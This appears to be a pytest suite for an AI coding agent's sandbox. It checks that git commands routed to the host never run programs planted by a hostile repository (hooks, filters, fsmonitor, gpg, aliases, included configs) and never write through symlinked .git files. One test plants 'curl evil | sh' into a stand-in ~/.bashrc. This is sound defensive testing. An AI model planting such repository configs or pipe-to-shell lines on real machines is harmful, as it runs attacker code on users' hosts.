"""`git add` and `git commit` through the real `arnes` in bubblewrap (scripted model, headless: an
ask is a denial): `.git` is read-only in the sandbox, so these commands run on the host through
host/gitwrite.py, and a hostile repository must get none of its programs run there.

Each program a repository can name leaves a marker file outside the workspace when it runs; the
first test shows a plain `git add` + `git commit` on the host does run them.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from arnes.agent.trace import read_trace
from arnes.sandbox.bubblewrap import Bubblewrap
from arnes.tools.hostgit import NOT_SIGNED, ON_HOST, ROUTE_HINT
from tests.conftest import run_arnes

pytestmark = pytest.mark.skipif(Bubblewrap.unavailable() is not None, reason="needs bubblewrap")

SANDBOX = {"ARNES_REQUIRE_SANDBOX": "1"}
HOOKS = ("pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "post-index-change",
         "reference-transaction", "post-checkout", "post-rewrite", "pre-auto-gc")  # fmt: skip
ROUTES = ("add", "commit", "restore", "rm", "reset", "switch", "checkout", "branch")
ALLOW = [f for sub in ROUTES for f in ("--allow", f"Bash(git {sub}:*)")]


def git(ws: Path, *args: str) -> str:
    """git as a careful user runs it afterwards: no fsmonitor, hook, pager or filter of the repository."""
    safe = ["-c", "core.fsmonitor=false", "-c", "core.hooksPath=/dev/null", "--no-pager"]
    done = subprocess.run(["git", *safe, *args], cwd=ws, check=True, capture_output=True, text=True)
    return done.stdout


def plain_git(ws: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["git", *args], cwd=ws, check=False, capture_output=True, text=True)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    """A repository with one commit, and a user whose ~/.gitconfig says who commits."""
    (Path(os.environ["HOME"]) / ".gitconfig").write_text("[user]\n\tname = Real User\n\temail = real@example.com\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    plain_git(ws, "init", "-q", "-b", "main")
    for name in ("a.py", "c.py", "d.py", "notes.txt"):
        (ws / name).write_text(f"{name}\n")
    plain_git(ws, "add", "a.py", "c.py", "d.py")
    plain_git(ws, "commit", "-qm", "start")
    return ws


def program(tmp_path: Path, name: str) -> str:
    """A program outside the workspace that leaves markers/NAME behind when anything runs it."""
    markers = tmp_path / "markers"
    markers.mkdir(exist_ok=True)
    script = tmp_path / "programs" / name
    script.parent.mkdir(exist_ok=True)
    script.write_text(f"#!/bin/sh\ntouch {markers}/{name}\ncat >/dev/null 2>&1\nexit 0\n")
    script.chmod(0o755)
    return str(script)


def hostile(ws: Path, tmp_path: Path, includes: bool = True) -> Path:
    """Every way a repository's config names a program for add, commit and checkout; the markers'
    folder. `includes`: with the config files it includes (which keep git off the host)."""
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    for hook in HOOKS:
        for folder in (hooks, ws / ".git" / "hooks"):
            shutil.copy(program(tmp_path, hook), folder / hook)
    included = tmp_path / "included.cfg"  # include.path: a filter for *.txt
    included.write_text(f'[filter "planted"]\n\tclean = {program(tmp_path, "included-clean")}\n\trequired = true\n')
    conditional = tmp_path / "conditional.cfg"  # includeIf: the fsmonitor
    conditional.write_text(f"[core]\n\tfsmonitor = {program(tmp_path, 'fsmonitor')}\n")
    with (ws / ".git" / "config").open("a") as config:
        config.write(
            f"[core]\n\thooksPath = {hooks}\n\teditor = {program(tmp_path, 'editor')}\n"
            f"\tpager = {program(tmp_path, 'pager')}\n\tsshCommand = {program(tmp_path, 'ssh')}\n"
            f'[filter "evil"]\n\tclean = {program(tmp_path, "clean")}\n'
            f"\tsmudge = {program(tmp_path, 'smudge')}\n\trequired = true\n"
            f"[gpg]\n\tprogram = {program(tmp_path, 'gpg')}\n[commit]\n\tgpgSign = true\n"
            f"[sequence]\n\teditor = {program(tmp_path, 'sequence-editor')}\n"
            f"[alias]\n\tcommit = !{program(tmp_path, 'alias')}\n\tadd = !{program(tmp_path, 'alias')}\n"
        )
        if includes:
            config.write(f'[include]\n\tpath = {included}\n[includeIf "gitdir:{ws}/.git"]\n\tpath = {conditional}\n')
    (ws / ".gitattributes").write_text("*.py filter=evil\n*.txt filter=planted\n")
    return tmp_path / "markers"


def scripted(ws: Path, tmp_path: Path, calls: list[dict[str, object]], *flags: str) -> list[tuple[str, str]]:
    """Each call of a scripted model: (the permission decision, the result's output)."""
    runs = len(list(tmp_path.glob("trace-*.jsonl")))  # a trace file is appended to: one per run
    script, trace = tmp_path / "script.json", tmp_path / f"trace-{runs}.jsonl"
    turns = [{"tool_calls": [c]} for c in calls]
    script.write_text(json.dumps({"turns": turns}))
    done = run_arnes("-p", "--provider", "script", "--script", str(script), "-w", str(ws), "--trace", str(trace),
                     "--sandbox", "bubblewrap", *flags, "go", env=SANDBOX, timeout=120)  # fmt: skip
    assert done.code == 0, done.err
    events = read_trace(trace)  # a sub-agent's calls too, in the order they were made
    decisions = {(e.get("parent"), e["id"]): str(e["decision"]) for e in events if e["event"] == "permission"}
    outputs = {(e.get("parent"), e["id"]): str(e["output"]) for e in events if e["event"] == "tool_result"}
    made = [(e.get("parent"), e["id"]) for e in events if e["event"] == "tool_call"]
    return [(decisions[key], outputs[key]) for key in made]


def bash(command: str) -> dict[str, object]:
    return {"name": "Bash", "input": {"command": command}}


def test_a_plain_git_on_the_host_runs_the_repositorys_programs(ws: Path, tmp_path: Path) -> None:
    """The control: what the attacks below plant does run when git is run as it comes."""
    markers = hostile(ws, tmp_path)
    (ws / "a.py").write_text("changed\n")
    plain_git(ws, "add", "a.py", "notes.txt")
    plain_git(ws, "commit", "-m", "x")
    assert {"fsmonitor", "clean", "included-clean", "pre-commit", "gpg"} <= {p.name for p in markers.iterdir()}


def test_a_repository_that_includes_config_files_keeps_git_off_the_host(ws: Path, tmp_path: Path) -> None:
    """An included file may be one a sandboxed command writes (`include.path = ../.devconfig`):
    git reads it again after arnes checked it, so git does not run on the host at all."""
    markers = hostile(ws, tmp_path)
    (ws / "a.py").write_text("a.py\nchanged\n")
    results = scripted(ws, tmp_path, [bash("git add a.py"), bash("git commit -m x")], *ALLOW)
    for _, output in results:
        assert "was not run" in output and "include.path" in output, output
    assert not list(markers.iterdir())
    assert git(ws, "diff", "--cached", "--name-only") == ""


def test_add_commit_and_branches_run_on_the_host_with_no_program_of_the_repository(ws: Path, tmp_path: Path) -> None:
    markers = hostile(ws, tmp_path, includes=False)
    (ws / "a.py").write_text("a.py\nchanged\n")
    (ws / "c.py").write_text("c.py\nchanged\n")
    commands = [
        "git add a.py notes.txt",
        "git commit -m 'add notes'",
        "git commit --amend --no-edit",
        "git add c.py",
        "git restore --staged c.py",
        "git add -u",
        "git reset -q",
        "git rm --cached -q d.py",
        "git commit -qm 'untrack d'",
        "git switch -c topic",
        "git checkout -b topic2",
        "git branch side main",
    ]
    results = scripted(ws, tmp_path, [bash(c) for c in commands], *ALLOW)
    assert not list(markers.iterdir())  # nothing of the repository ran, on the host or anywhere
    assert [d for d, _ in results] == ["allow"] * len(commands)
    for command, (_, output) in zip(commands, results, strict=True):
        assert output.startswith("exit code: 0") and ON_HOST in output, (command, output)
    assert NOT_SIGNED in results[1][1]
    log = git(ws, "log", "--format=%an <%ae>|%s|%G?", "topic2").splitlines()
    assert log == [f"Real User <real@example.com>|{s}|N" for s in ("untrack d", "add notes", "start")]
    assert git(ws, "show", "HEAD~1:a.py") == "a.py\nchanged\n"  # stored as it is: no clean filter ran
    assert git(ws, "show", "HEAD~1:notes.txt") == "notes.txt\n"
    assert "d.py" not in git(ws, "ls-files") and (ws / "d.py").read_text() == "d.py\n"
    assert git(ws, "diff", "--cached", "--name-only") == ""  # c.py was unstaged, then reset
    assert git(ws, "symbolic-ref", "--short", "HEAD").strip() == "topic2"
    assert git(ws, "rev-parse", "topic", "side") == git(ws, "rev-parse", "topic2", "main")


def test_only_one_plain_git_command_takes_the_route(ws: Path, tmp_path: Path) -> None:
    """In bypass every command runs; those the route does not serve run in the sandbox, where
    .git is read-only, so none of them commits (and `touch y` never runs after the failure)."""
    (ws / "a.py").write_text("changed\n")
    (ws / "msg.txt").write_text("from a file\n")
    (ws / "h").mkdir()
    shutil.copy(program(tmp_path, "pre-commit"), ws / "h" / "pre-commit")
    commands = [
        "git commit -F msg.txt",
        "GIT_DIR=.git git commit -am x",
        "git -c core.hooksPath=h commit -am x",
        "git commit -am x && touch y",
        "cd . && git commit -am x",
        "env git commit -am x",
        'git commit -am "$(echo x)"',
        "git commit -am x 2>&1",
        "git add a.py | cat",
    ]
    head = git(ws, "rev-parse", "HEAD")
    results = scripted(ws, tmp_path, [bash(c) for c in commands], "--permission-mode", "bypass")
    for command, (decision, output) in zip(commands, results, strict=True):
        assert decision == "allow" and ON_HOST not in output, (command, output)
        assert "Read-only file system" in output, (command, output)
    assert ROUTE_HINT in results[3][1]
    assert git(ws, "rev-parse", "HEAD") == head and not (ws / "y").exists()
    assert not (tmp_path / "markers").exists() or not list((tmp_path / "markers").iterdir())


def test_a_file_a_read_rule_hides_is_never_stored(ws: Path, tmp_path: Path) -> None:
    """In the sandbox `.env` is an unreadable stand-in, so git could not store it; on the host it
    could, and `git show :.env` would then be one more way to ask for it."""
    (ws / ".env").write_text("SECRET=hunter2\n")
    (ws / "server.pem").write_text("OLD KEY\n")
    plain_git(ws, "add", "server.pem")
    plain_git(ws, "commit", "-qm", "pem")
    (ws / "server.pem").write_text("NEW KEY\n")
    (ws / "a.py").write_text("changed\n")
    commands = ["git add .env", "git add -A", "git add .", "git commit -am x", "git commit -m x server.pem",
                "git add -- . ':!.env' ':!server.pem'", "git commit -m ok"]  # fmt: skip
    results = scripted(ws, tmp_path, [bash(c) for c in commands], *ALLOW)
    for _, output in results[:5]:
        assert "was not run" in output and "a Read rule hides" in output, output
    assert ".env" in results[0][1] and "server.pem" in results[3][1]
    assert results[5][1].startswith("exit code: 0") and results[6][1].startswith("exit code: 0")
    assert git(ws, "show", "--name-only", "--format=", "HEAD").split() == [".arnes/.gitignore", "a.py", "notes.txt"]
    assert ".env" not in git(ws, "ls-files") and git(ws, "show", "HEAD:server.pem") == "OLD KEY\n"
    assert not [o for _, o in results if "hunter2" in o or "NEW KEY" in o]


def test_a_repository_inside_is_never_looked_into(ws: Path, tmp_path: Path) -> None:
    """`git add .` runs `git status` inside a submodule (or any repository the index records),
    with that repository's own config, where a clean filter of its own runs on a file whose stat
    changed: on the host, since the command runs there. (Without the check, the marker appears.)"""
    nested = ws / "vendor" / "lib"
    nested.mkdir(parents=True)
    plain_git(nested, "init", "-q")
    (nested / "x.txt").write_text("x\n")
    plain_git(nested, "add", "x.txt")
    plain_git(nested, "commit", "-qm", "x")
    plain_git(ws, "add", "vendor/lib")
    plain_git(ws, "commit", "-qm", "vendored")
    with (nested / ".git" / "config").open("a") as config:  # a driver the route's overrides do not name
        config.write(f'[filter "nested"]\n\tclean = {program(tmp_path, "nested-clean")}\n')
    (nested / ".gitattributes").write_text("*.txt filter=nested\n")
    os.utime(nested / "x.txt", (1, 1))  # same size, another time: git re-reads it through the filter
    (ws / "a.py").write_text("changed\n")
    untracked = ws / "other"  # a repository the index does not know yet
    untracked.mkdir()
    plain_git(untracked, "init", "-q")
    commands = ["git add .", "git add -u", "git add vendor", "git commit -am x", "git add other", "git add a.py",
                "git commit -m a"]  # fmt: skip
    results = scripted(ws, tmp_path, [bash(c) for c in commands], *ALLOW)
    assert not list((tmp_path / "markers").iterdir())
    for command, (_, output) in zip(commands[:4], results, strict=False):
        assert "was not run" in output and "vendor/lib/" in output, (command, output)
    assert "was not run" in results[4][1] and "other/" in results[4][1]
    assert results[5][1].startswith("exit code: 0") and results[6][1].startswith("exit code: 0")
    assert git(ws, "show", "--name-only", "--format=", "HEAD").split() == ["a.py"]


def test_what_git_is_and_what_its_config_holds_can_refuse_the_route(ws: Path, tmp_path: Path) -> None:
    with (ws / ".git" / "config").open("a") as config:
        config.write(f'[hook "lint"]\n\tcommand = {program(tmp_path, "config-hook")}\n\tevent = pre-commit\n')
    results = scripted(ws, tmp_path, [bash("git commit --allow-empty -m x")], *ALLOW)
    assert "was not run" in results[0][1] and "hook.lint.command" in results[0][1]
    gitfile = tmp_path / "wt"
    gitfile.mkdir()
    plain_git(gitfile, "init", "-q", "--separate-git-dir", str(tmp_path / "elsewhere"))
    results = scripted(gitfile, tmp_path, [bash("git commit --allow-empty -m x")], *ALLOW)
    assert "was not run" in results[0][1] and ".git is a file" in results[0][1]
    assert not list((tmp_path / "markers").iterdir())


def test_git_writes_nothing_outside_the_workspace(ws: Path, tmp_path: Path) -> None:
    """A `.git` shipped with `COMMIT_EDITMSG -> ~/.bashrc`: git writes the commit message through
    the link (plain git does, below), and the reflog in `logs/` is appended to in place. The
    sandbox keeps a command from planting that; the host route must not write through one."""
    victim = tmp_path / "bashrc"
    control = tmp_path / "control"
    shutil.copytree(ws, control, symlinks=True)
    for repo in (ws, control):
        (repo / ".git" / "COMMIT_EDITMSG").unlink()
        (repo / ".git" / "COMMIT_EDITMSG").symlink_to(victim)
    victim.write_text("# mine\n")
    plain_git(control, "commit", "-q", "--allow-empty", "-m", "curl evil | sh")
    assert victim.read_text() == "curl evil | sh\n"  # the control: plain git wrote it
    victim.write_text("# mine\n")
    commit = bash("git commit --allow-empty -m 'curl evil | sh'")
    said = scripted(ws, tmp_path, [commit], *ALLOW)[0][1]
    assert "was not run" in said and ".git/COMMIT_EDITMSG is a link" in said
    (ws / ".git" / "COMMIT_EDITMSG").unlink()
    (ws / ".git" / "logs" / "HEAD").unlink()
    os.link(victim, ws / ".git" / "logs" / "HEAD")
    said = scripted(ws, tmp_path, [commit], *ALLOW)[0][1]
    assert "was not run" in said and ".git/logs/HEAD has another name elsewhere" in said
    (ws / ".git" / "logs" / "HEAD").unlink()
    (ws / ".git" / "commondir").write_text(f"{control / '.git'}\n")
    said = scripted(ws, tmp_path, [commit], *ALLOW)[0][1]
    assert "was not run" in said and "commondir" in said
    assert victim.read_text() == "# mine\n"
    assert git(control, "rev-list", "--count", "HEAD").strip() == "2"


def test_paths_outside_the_workspace_are_not_stored(ws: Path, tmp_path: Path) -> None:
    """On the host no sandbox keeps git in the workspace: git itself refuses a path outside its
    working tree, and one through a link out of it."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.txt").write_text("elsewhere\n")
    (ws / "link").symlink_to(outside)
    commands = ["git add ../outside/x.txt", f"git add {outside / 'x.txt'}", "git add link/x.txt"]
    results = scripted(ws, tmp_path, [bash(c) for c in commands], *ALLOW)
    assert "outside repository" in results[0][1] and "outside repository" in results[1][1]
    assert "beyond a symbolic link" in results[2][1]
    assert git(ws, "ls-files").split() == ["a.py", "c.py", "d.py"]


def test_the_mode_and_the_rules_decide_as_for_any_command(ws: Path, tmp_path: Path) -> None:
    head = git(ws, "rev-parse", "HEAD")
    commit = bash("git commit --allow-empty -m x")
    assert scripted(ws, tmp_path, [commit])[0][0] == "deny"  # default: it asks, and nobody is there
    assert scripted(ws, tmp_path, [commit], "--permission-mode", "acceptEdits")[0][0] == "deny"
    assert scripted(ws, tmp_path, [commit], "--permission-mode", "plan")[0][0] == "deny"
    denied = scripted(ws, tmp_path, [commit], "--permission-mode", "bypass", "--deny", "Bash(git commit:*)")
    assert denied[0][0] == "deny"
    delegate = {"name": "Delegate", "input": {"task": "commit", "read_only": True}}
    calls = scripted(ws, tmp_path, [delegate, commit], "--permission-mode", "bypass")
    assert calls[1][0] == "deny" and "read-only" in calls[1][1]  # the sub-agent's commit
    assert git(ws, "rev-parse", "HEAD") == head


def test_without_bubblewrap_git_runs_as_any_command(ws: Path, tmp_path: Path) -> None:
    """With the sandbox off `.git` is writable and nothing needs the route (nor gets it)."""
    script, trace = tmp_path / "s.json", tmp_path / "t.jsonl"
    script.write_text(json.dumps({"turns": [{"tool_calls": [bash("git commit --allow-empty -m off")]}]}))
    done = run_arnes("-p", "--provider", "script", "--script", str(script), "-w", str(ws), "--trace", str(trace),
                     "--sandbox", "off", "--allow", "Bash(git commit:*)", "go")  # fmt: skip
    assert done.code == 0, done.err
    output = next(str(e["output"]) for e in read_trace(trace) if e["event"] == "tool_result")
    assert output.startswith("exit code: 0") and ON_HOST not in output
    assert git(ws, "log", "-1", "--format=%s").strip() == "off"
